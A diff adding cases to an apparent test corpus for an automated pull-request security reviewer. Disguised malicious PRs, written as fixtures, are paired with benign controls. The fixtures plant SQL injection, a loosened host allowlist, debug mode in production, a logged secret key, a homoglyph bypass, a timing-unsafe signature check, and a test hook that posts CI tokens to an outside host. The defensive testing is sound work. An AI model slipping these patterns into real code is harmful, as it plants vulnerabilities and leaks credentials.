@@ -1953,4 +1953,254 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:suspicious-network-endpoint'] },
   },
+  {
+    id: 'attack-cleanup-splices-sql-parameter',
+    description:
+      'A "cleanup" PR that turns a parameterized query into an f-string: the bound name is now written into the SQL text (SQL injection planted as a refactor; no token of an auth or TLS rule changes).',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger',
+        number: 7160,
+        title: 'cleanup: simplify user queries',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'ledger/db/users.py',
+            base: lines('def find_user(conn, name):', '    cur = conn.cursor()', '    cur.execute("SELECT id, email FROM users WHERE name = %s", (name,))', '    return cur.fetchone()'),
+            head: lines('def find_user(conn, name):', '    cur = conn.cursor()', '    cur.execute(f"SELECT id, email FROM users WHERE name = \'{name}\'")', '    return cur.fetchone()'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['sql-parameters-dropped'] },
+  },
+  {
+    id: 'attack-cleanup-renames-sql-parameters',
+    description: 'A maintainer moves the same query to named parameters (the value stays bound): not an injection.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger',
+        number: 7161,
+        title: 'refactor: use named query parameters',
+        files: [
+          {
+            path: 'ledger/db/users.py',
+            base: lines('def find_user(conn, name):', '    cur = conn.cursor()', '    cur.execute("SELECT id, email FROM users WHERE name = %s", (name,))', '    return cur.fetchone()'),
+            head: lines('def find_user(conn, name):', '    cur = conn.cursor()', '    cur.execute("SELECT id, email FROM users WHERE name = %(name)s", {"name": name})', '    return cur.fetchone()'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-typo-fix-drops-host-suffix-dot',
+    description:
+      'A "Fix typo in host check" PR drops the leading dot of an allowed host suffix, so evilacme.com passes as acme.com: a one-character string edit that the claim check alone reads as a typo fixed in a string.',
+    fixture: () =>
+      attackPr({
+        repo: 'edge-proxy',
+        number: 7162,
+        title: 'Fix typo in host check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'internal/proxy/allow.go',
+            base: lines('package proxy', '', 'func allowedHost(host string) bool {', '\treturn host == "acme.com" || strings.HasSuffix(host, ".acme.com")', '}'),
+            head: lines('package proxy', '', 'func allowedHost(host string) bool {', '\treturn host == "acme.com" || strings.HasSuffix(host, "acme.com")', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['allowlist-check-loosened', 'pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-host-check-tightened',
+    description: 'A maintainer adds the missing leading dot to the same host suffix check (the fix of the bug above): tightened, not loosened.',
+    fixture: () =>
+      attackPr({
+        repo: 'edge-proxy',
+        number: 7163,
+        title: 'proxy: require a dot before the allowed domain',
+        files: [
+          {
+            path: 'internal/proxy/allow.go',
+            base: lines('package proxy', '', 'func allowedHost(host string) bool {', '\treturn host == "acme.com" || strings.HasSuffix(host, "acme.com")', '}'),
+            head: lines('package proxy', '', 'func allowedHost(host string) bool {', '\treturn host == "acme.com" || strings.HasSuffix(host, ".acme.com")', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-tidy-settings-turns-debug-on',
+    description:
+      'A "chore: tidy settings" PR replaces the environment-driven DEBUG of a Django settings module with DEBUG = True and ALLOWED_HOSTS with ["*"]: a changed default that shows stack traces and settings to anyone and accepts any Host header.',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront-django',
+        number: 7164,
+        title: 'chore: tidy settings',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'storefront/settings.py',
+            base: lines('import os', '', 'DEBUG = os.environ.get("DJANGO_DEBUG", "0") == "1"', 'ALLOWED_HOSTS = ["shop.acme.com"]'),
+            head: lines('import os', '', 'DEBUG = True', 'ALLOWED_HOSTS = ["*"]'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['insecure-setting-enabled'] },
+  },
+  {
+    id: 'attack-dev-settings-debug-on',
+    description: "A maintainer turns DEBUG on in the project's development settings module, which is what that file is for.",
+    fixture: () =>
+      attackPr({
+        repo: 'storefront-django',
+        number: 7165,
+        title: 'dev settings: turn debug on',
+        files: [{ path: 'storefront/settings/dev.py', base: lines('from .base import *', '', 'DEBUG = False'), head: lines('from .base import *', '', 'DEBUG = True') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-refactor-logs-secret-key',
+    description: 'A "refactor: extract client setup" PR adds a log line that writes the Stripe secret key, read from the environment two lines above, to the application log.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing',
+        number: 7166,
+        title: 'refactor: extract client setup',
+        files: [
+          {
+            path: 'billing/stripe_client.py',
+            base: lines('import logging', 'import os', '', 'log = logging.getLogger(__name__)', '', 'def client():', '    key = os.environ["STRIPE_SECRET_KEY"]', '    return stripe.Client(key)'),
+            head: lines('import logging', 'import os', '', 'log = logging.getLogger(__name__)', '', 'def client():', '    key = os.environ["STRIPE_SECRET_KEY"]', '    log.info("stripe client configured with key=%s", key)', '    return stripe.Client(key)'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'request_changes'], findings: ['secret-logged'] },
+  },
+  {
+    id: 'attack-refactor-logs-key-presence',
+    description: 'The same refactor logs only whether the key is set.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing',
+        number: 7167,
+        title: 'refactor: extract client setup',
+        files: [
+          {
+            path: 'billing/stripe_client.py',
+            base: lines('import logging', 'import os', '', 'log = logging.getLogger(__name__)', '', 'def client():', '    key = os.environ["STRIPE_SECRET_KEY"]', '    return stripe.Client(key)'),
+            head: lines('import logging', 'import os', '', 'log = logging.getLogger(__name__)', '', 'def client():', '    key = os.environ["STRIPE_SECRET_KEY"]', '    log.info("stripe client configured (key set: %s)", key is not None)', '    return stripe.Client(key)'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-typo-fix-cyrillic-reserved-name',
+    description: 'A "Fix typo in reserved names" PR rewrites the reserved account name admin with a Cyrillic а: the check reads the same and no longer matches, so anyone can register "admin".',
+    fixture: () =>
+      attackPr({
+        repo: 'accounts',
+        number: 7168,
+        title: 'Fix typo in reserved names',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/accounts/reserved.ts',
+            base: lines('export function reserved(name: string): boolean {', "  return name === 'admin' || name === 'root';", '}'),
+            head: lines('export function reserved(name: string): boolean {', "  return name === '\u0430dmin' || name === 'root';", '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['mixed-script-string'] },
+  },
+  {
+    id: 'attack-test-setup-posts-token',
+    description:
+      'A "test: fix flaky setup" PR makes the test setup file POST NPM_TOKEN and GITHUB_TOKEN to an ordinary-looking host: tests run in CI with the job\'s secrets on every pull request.',
+    fixture: () =>
+      attackPr({
+        repo: 'widgets-ui',
+        number: 7169,
+        title: 'test: fix flaky setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'test/setup.ts',
+            base: lines("import { beforeAll } from 'vitest';", 'beforeAll(() => {', "  process.env.TZ = 'UTC';", '});'),
+            head: lines(
+              "import { beforeAll } from 'vitest';",
+              'beforeAll(async () => {',
+              "  process.env.TZ = 'UTC';",
+              "  await fetch('https://telemetry.widgets-ci.dev/ready', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN }) });",
+              '});',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-integration-test-authenticates',
+    description: "A maintainer's integration test calls the project's own API with the CI token in its Authorization header.",
+    fixture: () =>
+      attackPr({
+        repo: 'widgets-ui',
+        number: 7170,
+        title: 'test: cover issue creation against the API',
+        files: [
+          {
+            path: 'test/integration/issues.test.ts',
+            head: lines(
+              "import { it, expect } from 'vitest';",
+              "it('creates an issue', async () => {",
+              "  const res = await fetch('https://api.github.com/repos/acme/widgets-ui/issues', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify({ title: 'integration' }) });",
+              '  expect(res.status).toBe(201);',
+              '});',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-typo-fix-drops-constant-time-compare',
+    description:
+      'A "Fix typo in webhook docstring" PR also replaces hmac.compare_digest with == and a prefix test, in the webhook signature check: a timing leak and a partial signature accepted, under a typo claim.',
+    fixture: () =>
+      attackPr({
+        repo: 'hookrelay',
+        number: 7171,
+        title: 'Fix typo in webhook docstring',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'hookrelay/signature.py',
+            base: lines('def valid(sig, body):', '    """Check the webhok signature."""', '    expected = hmac.new(KEY, body, "sha256").hexdigest()', '    return hmac.compare_digest(sig, expected)'),
+            head: lines('def valid(sig, body):', '    """Check the webhook signature."""', '    expected = hmac.new(KEY, body, "sha256").hexdigest()', '    return sig == expected or expected.startswith(sig)'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['constant-time-compare-removed', 'pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-webhook-compare-moves-to-secrets',
+    description: 'A maintainer moves the same check to secrets.compare_digest (still constant time).',
+    fixture: () =>
+      attackPr({
+        repo: 'hookrelay',
+        number: 7172,
+        title: 'signature: use secrets.compare_digest',
+        files: [
+          {
+            path: 'hookrelay/signature.py',
+            base: lines('def valid(sig, body):', '    expected = hmac.new(KEY, body, "sha256").hexdigest()', '    return hmac.compare_digest(sig, expected)'),
+            head: lines('def valid(sig, body):', '    expected = hmac.new(KEY, body, "sha256").hexdigest()', '    return secrets.compare_digest(sig, expected)'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
+  },
 ];
